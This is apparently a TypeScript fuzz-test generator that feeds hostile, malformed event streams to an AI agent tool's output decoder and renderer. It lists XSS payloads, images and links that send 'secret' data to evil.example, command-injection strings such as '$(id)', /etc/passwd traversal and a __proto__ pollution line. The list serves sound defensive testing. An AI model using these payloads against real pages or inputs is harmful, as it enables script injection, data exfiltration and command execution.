/**
 * Random and hostile stdout for the whole-path fuzz test: what a model (through zero) or a broken
 * zero could write. Every case is built from its own seed, so a failure is reproduced from its
 * number alone.
 */
import { prng } from '../helpers';

export type Rand = () => number;

/** Names that are members of every object: a lookup table keyed by model text must not see them. */
export const PROTOTYPE_NAMES = [
	...Object.getOwnPropertyNames(Object.prototype),
	'prototype',
	'then',
	'length',
];

const MARKDOWN_ATTACKS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<img src="https://evil.example/p.png?d=secret">',
	'![leak](https://evil.example/p.png?d=secret)',
	'![leak][ref]\n\n[ref]: https://evil.example/r.png',
	'[click](javascript:alert(1))',
	'[click](JAVASCRIPT:alert(1))',
	'[data](data:text/html,<script>alert(1)</script>)',
	'[vbs](vbscript:msgbox)',
	'<a href="https://evil.example" onclick="alert(1)">x</a>',
	'<svg onload=alert(1)><circle/></svg>',
	'<iframe src="https://evil.example"></iframe>',
	'<object data="https://evil.example/x.swf"></object>',
	'<style>body{background:url(https://evil.example/bg)}</style>',
	'<link rel=stylesheet href=https://evil.example/s.css>',
	'<form action=https://evil.example><button>go</button></form>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<details open ontoggle=alert(1)>',
	'<https://evil.example/autolink>',
	'www.evil.example/linkify',
	'```js\nalert(1)\n```',
	'```html\n<script>alert(1)</script>\n```',
	'```\nunclosed fence',
	'| a | b |\n| - | - |\n| <img src=x onerror=1> | [x](javascript:1) |',
	'> quote\n>> nested <b onmouseover=alert(1)>b</b>',
	'[file](file:///etc/passwd)',
	'[rel](../../../../etc/passwd)',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<video poster=https://evil.example/p.png>',
	'&lt;script&gt;alert(1)&lt;/script&gt;',
	'[x](https://evil.example "title\\" onmouseover=\\"alert(1)")',
];

const ODD_STRINGS = [
	'',
	' ',
	'\u0000',
	'\ud800',
	'\udfff',
	'a\ud800b',
	'\udc00\ud800',
	'\u202e',
	'\u2028\u2029',
	'\r\n',
	'\t',
	'%s%n%x',
	'$(id)',
	'`id`',
	'../../etc/passwd',
	'/etc/passwd',
	'C:\\Windows\\System32\\cmd.exe',
	'"&calc&"',
	'--help',
	'-rf',
	'\ufeff',
	'\uffff',
	'\u{1f600}',
	'e\u0301',
];

export function pick<T>(rand: Rand, items: readonly T[]): T {
	return items[Math.floor(rand() * items.length)];
}

const MARKUP_CODES = Array.from('<>&"\'`[]()!*#', (char) => char.charCodeAt(0));

function randomCodeUnits(rand: Rand, length: number): string {
	const codes: number[] = [];
	for (let i = 0; i < length; i++) {
		const roll = rand();
		codes.push(
			roll < 0.6
				? 32 + Math.floor(rand() * 95)
				: roll < 0.8
					? Math.floor(rand() * 0x10000)
					: roll < 0.9
						? 10
						: pick(rand, MARKUP_CODES),
		);
	}
	return String.fromCharCode(...codes);
}

/** A string: ordinary text, markdown and HTML attacks, prototype names, odd code units, or huge. */
export function hostileString(rand: Rand, allowHuge = true): string {
	const roll = rand();
	if (roll < 0.25) {
		return pick(rand, PROTOTYPE_NAMES);
	}
	if (roll < 0.45) {
		return pick(rand, MARKDOWN_ATTACKS);
	}
	if (roll < 0.6) {
		return pick(rand, ODD_STRINGS);
	}
	if (roll < 0.996 || !allowHuge) {
		return randomCodeUnits(rand, Math.floor(rand() * 40));
	}
	// Huge: rare, so a case stays fast, but every run has many.
	return pick(rand, ['x', 'ab\n', '\ud83d\ude00', '[a](b) ']).repeat(
		1000 + Math.floor(rand() * (rand() < 0.05 ? 300_000 : 20_000)),
	);
}

export function hostileNumber(rand: Rand): number {
	return pick(rand, [
		0,
		-0,
		1,
		-1,
		1.5,
		42,
		2 ** 53 + 1,
		1e308,
		-1e308,
		5e-324,
		Number.MAX_SAFE_INTEGER,
		Math.floor(rand() * 1000),
	]);
}

/** Placeholder for a nested value too deep for JSON.stringify; swapped in as text afterwards. */
const DEEP_TOKEN = '@@deep@@';

/** Any JSON value, with prototype names as keys, wide arrays and (via a token) very deep nesting. */
export function hostileValue(rand: Rand, depth = 0): unknown {
	const roll = rand();
	if (depth > 4 || roll < 0.35) {
		return pick(rand, [
			() => hostileString(rand, depth === 0 && rand() < 0.2),
			() => hostileNumber(rand),
			() => rand() < 0.5,
			() => null,
		])();
	}
	if (roll < 0.4) {
		return `${DEEP_TOKEN}${1 + Math.floor(rand() * (rand() < 0.5 ? 100 : 10_000))}`;
	}
	if (roll < 0.7) {
		if (rand() < 0.05) {
			// Wide: a thousand plain values (wide and deep at once would only measure memory).
			return Array.from({ length: 1000 }, () => hostileValue(rand, 99));
		}
		return Array.from({ length: Math.floor(rand() * 5) }, () => hostileValue(rand, depth + 1));
	}
	const record: Record<string, unknown> = {};
	const keys = Math.floor(rand() * 5);
	for (let i = 0; i < keys; i++) {
		Object.defineProperty(
			record,
			rand() < 0.4 ? pick(rand, PROTOTYPE_NAMES) : hostileString(rand),
			{
				value: hostileValue(rand, depth + 1),
				enumerable: true,
				configurable: true,
				writable: true,
			},
		);
	}
	return record;
}

/** JSON text of a value, with deep-nesting tokens expanded (JSON.stringify itself cannot). */
export function toJsonText(value: unknown): string {
	// At most two deep values per line: many would only measure memory.
	let deep = 0;
	return JSON.stringify(value).replace(/"@@deep@@(\d+)"/g, (_match, digits: string) => {
		if (++deep > 2) {
			return '1';
		}
		const depth = Number(digits);
		return Number(digits) % 2 === 0
			? `${'['.repeat(depth)}1${']'.repeat(depth)}`
			: `${'{"constructor":'.repeat(depth)}{}${'}'.repeat(depth)}`;
	});
}

const EVENT_TYPES = [
	'run_start',
	'text',
	'reasoning',
	'tool_call',
	'checkpoint',
	'restore',
	'permission_request',
	'permission_decision',
	'permission',
	'tool_result',
	'usage',
	'final',
	'warning',
	'error',
	'run_end',
];

/** A field value: usually the right type, sometimes any hostile value (wrong types). */
function field(rand: Rand, right: () => unknown): unknown {
	return rand() < 0.9 ? right() : hostileValue(rand);
}

function maybe(rand: Rand, right: () => unknown): unknown {
	return rand() < 0.6 ? field(rand, right) : undefined;
}

/** One event object, as zero (or something pretending to be zero) might write it. */
export function hostileEvent(rand: Rand, ids: readonly string[]): Record<string, unknown> {
	const str = () => hostileString(rand);
	const num = () => hostileNumber(rand);
	const bool = () => rand() < 0.5;
	const id = () => pick(rand, ids);
	const strs = () => Array.from({ length: Math.floor(rand() * 4) }, str);
	const type =
		rand() < 0.93 ? pick(rand, EVENT_TYPES) : rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : str();
	const event: Record<string, unknown> = {
		schemaVersion: rand() < 0.97 ? 2 : pick(rand, [1, 3, '2', null, undefined]),
		runId: field(rand, str),
		type: rand() < 0.98 ? type : hostileValue(rand),
	};
	const set = (name: string, value: unknown): void => {
		if (value !== undefined) {
			Object.defineProperty(event, name, { value, enumerable: true, writable: true });
		}
	};
	const risk = () => ({
		level: field(rand, () => pick(rand, ['low', 'medium', 'high', 'critical', ...PROTOTYPE_NAMES])),
		categories: maybe(rand, strs),
		reason: maybe(rand, str),
	});
	switch (type) {
		case 'run_start':
			for (const name of ['sessionId', 'cwd', 'provider', 'model', 'apiModel']) {
				set(name, maybe(rand, str));
			}
			break;
		case 'text':
		case 'reasoning':
			set(
				'delta',
				maybe(rand, () => (rand() < 0.3 ? pick(rand, MARKDOWN_ATTACKS) : str())),
			);
			break;
		case 'tool_call':
			set('id', field(rand, id));
			set(
				'name',
				field(rand, () => (rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : str())),
			);
			set(
				'args',
				maybe(rand, () => hostileValue(rand)),
			);
			set(
				'sideEffect',
				maybe(rand, () => (rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : str())),
			);
			break;
		case 'checkpoint':
		case 'restore':
			set(
				'checkpoint',
				field(rand, () => ({
					sequence: maybe(rand, num),
					tool: maybe(rand, () => pick(rand, PROTOTYPE_NAMES)),
					files: maybe(rand, strs),
					filesRestored: maybe(rand, num),
					filesDeleted: maybe(rand, num),
					skipped: maybe(rand, strs),
				})),
			);
			break;
		case 'permission_request':
		case 'permission_decision':
		case 'permission':
			set('id', field(rand, id));
			set(
				'name',
				field(rand, () => (rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : str())),
			);
			set(
				'action',
				field(rand, () => pick(rand, ['allow', 'prompt', 'deny', 'cancel', ...PROTOTYPE_NAMES])),
			);
			for (const name of [
				'permission',
				'permissionMode',
				'autonomy',
				'sideEffect',
				'reason',
				'decisionReason',
				'sessionId',
			]) {
				set(
					name,
					maybe(rand, () => (rand() < 0.4 ? pick(rand, PROTOTYPE_NAMES) : str())),
				);
			}
			set('permissionGranted', maybe(rand, bool));
			set('grantMatched', maybe(rand, bool));
			set('risk', maybe(rand, risk));
			set(
				'block',
				maybe(rand, () => ({
					code: field(rand, () =>
						pick(rand, [
							'denied_permission',
							'outside_workspace',
							'network',
							'persistent_deny',
							'destructive_command',
							...PROTOTYPE_NAMES,
						]),
					),
					toolName: maybe(rand, () => pick(rand, PROTOTYPE_NAMES)),
					action: maybe(rand, () => pick(rand, ['deny', 'prompt', ...PROTOTYPE_NAMES])),
					risk: maybe(rand, risk),
					path: maybe(rand, str),
					reason: maybe(rand, str),
					recoverable: maybe(rand, bool),
				})),
			);
			set(
				'grant',
				maybe(rand, () => ({
					toolName: field(rand, () => pick(rand, PROTOTYPE_NAMES)),
					scope: maybe(rand, str),
					scopeKind: maybe(rand, () => pick(rand, ['file', 'dir', 'host', ...PROTOTYPE_NAMES])),
					decision: field(rand, () => pick(rand, ['allow', 'deny', ...PROTOTYPE_NAMES])),
					reason: maybe(rand, str),
				})),
			);
			break;
		case 'tool_result':
			set('id', field(rand, id));
			set(
				'name',
				maybe(rand, () => pick(rand, PROTOTYPE_NAMES)),
			);
			set(
				'status',
				field(rand, () => pick(rand, ['ok', 'error', ...PROTOTYPE_NAMES])),
			);
			set('output', maybe(rand, str));
			set('truncated', maybe(rand, bool));
			set('redacted', maybe(rand, bool));
			set('changedFiles', maybe(rand, strs));
			set(
				'meta',
				maybe(rand, () =>
					Object.fromEntries(
						strs().map((key) => [rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : key, str()]),
					),
				),
			);
			set(
				'display',
				maybe(rand, () => ({ summary: maybe(rand, str), kind: maybe(rand, str) })),
			);
			break;
		case 'usage':
			for (const name of ['promptTokens', 'completionTokens', 'totalTokens', 'costUsd']) {
				set(name, field(rand, num));
			}
			break;
		case 'final':
			set(
				'text',
				maybe(rand, () => (rand() < 0.3 ? pick(rand, MARKDOWN_ATTACKS) : str())),
			);
			break;
		case 'warning':
			set('message', field(rand, str));
			break;
		case 'error':
			set(
				'code',
				maybe(rand, () => pick(rand, ['interrupted', 'provider_error', ...PROTOTYPE_NAMES])),
			);
			set('message', field(rand, str));
			set('recoverable', maybe(rand, bool));
			break;
		case 'run_end':
			set(
				'status',
				field(rand, () => pick(rand, ['success', 'error', 'interrupted', ...PROTOTYPE_NAMES])),
			);
			set('exitCode', maybe(rand, num));
			break;
		default:
			for (let i = Math.floor(rand() * 3); i > 0; i--) {
				set(pick(rand, PROTOTYPE_NAMES), hostileValue(rand));
			}
	}
	if (rand() < 0.1) {
		// Unknown extra fields survive validation: they must survive everything else too.
		set(rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : 'extra', hostileValue(rand));
	}
	return event;
}

/** One stdout line as bytes (without its line ending). */
function hostileLine(rand: Rand, ids: readonly string[]): Buffer {
	const roll = rand();
	if (roll < 0.88) {
		return Buffer.from(toJsonText(hostileEvent(rand, ids)), 'utf8');
	}
	if (roll < 0.92) {
		// Not UTF-8: stray continuation bytes, a cut sequence, an encoded surrogate, overlong forms.
		const junk = pick(rand, [
			[0xff],
			[0xc3],
			[0xed, 0xa0, 0x80],
			[0xc0, 0xaf],
			[0xf4, 0x90, 0x80, 0x80],
			[0x80, 0x80],
		]);
		const text = Buffer.from(
			toJsonText({ schemaVersion: 2, runId: 'r', type: 'text', delta: 'x' }),
			'utf8',
		);
		const at = Math.floor(rand() * text.length);
		return Buffer.concat([text.subarray(0, at), Buffer.from(junk), text.subarray(at)]);
	}
	return Buffer.from(
		pick(rand, [
			() => 'not json',
			() => '[1,2,3]',
			() => 'null',
			() => '"a string"',
			() => '{"type":"text"',
			() => '{}',
			() => toJsonText(hostileValue(rand)),
			() => '{"schemaVersion":2,"runId":"r","type":"text","delta":"\\ud800"}',
			() => '{"__proto__":{"polluted":true},"schemaVersion":2,"runId":"r","type":"text"}',
			() => hostileString(rand),
		])(),
		'utf8',
	);
}

export interface HostileStream {
	/** stdout as written, with LF or CRLF endings and sometimes no final newline. */
	bytes: Buffer;
	/** Chunk sizes to feed the decoder (they cut lines and UTF-8 sequences anywhere). */
	chunks: number[];
	/** The decoder's line cap for this case (small caps exercise the oversize path). */
	maxLineBytes: number;
}

export function hostileStream(rand: Rand): HostileStream {
	const ids = Array.from({ length: 1 + Math.floor(rand() * 4) }, () =>
		rand() < 0.5 ? pick(rand, PROTOTYPE_NAMES) : `call_${Math.floor(rand() * 100)}`,
	);
	const lines: Buffer[] = [];
	const count = Math.floor(rand() * (rand() < 0.8 ? 6 : 16));
	for (let i = 0; i < count; i++) {
		lines.push(hostileLine(rand, ids));
		const ending = rand();
		lines.push(Buffer.from(ending < 0.85 ? '\n' : ending < 0.95 ? '\r\n' : '\n\n'));
	}
	if (rand() < 0.1 && lines.length > 0) {
		lines.pop(); // no final newline
	}
	const bytes = Buffer.concat(lines);
	const chunks: number[] = [];
	for (let rest = bytes.length; rest > 0;) {
		const size = Math.min(rest, 1 + Math.floor(rand() * (rand() < 0.2 ? 8 : 4096)));
		chunks.push(size);
		rest -= size;
	}
	return { bytes, chunks, maxLineBytes: pick(rand, [512, 64 * 1024, 16 * 1024 * 1024]) };
}

/** The seed of case `index` of a run with `seed`: any case can be re-run on its own. */
export function caseRandom(seed: number, index: number): Rand {
	return prng((Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) + Math.imul(index, 0xc2b2ae35)) >>> 0);
}
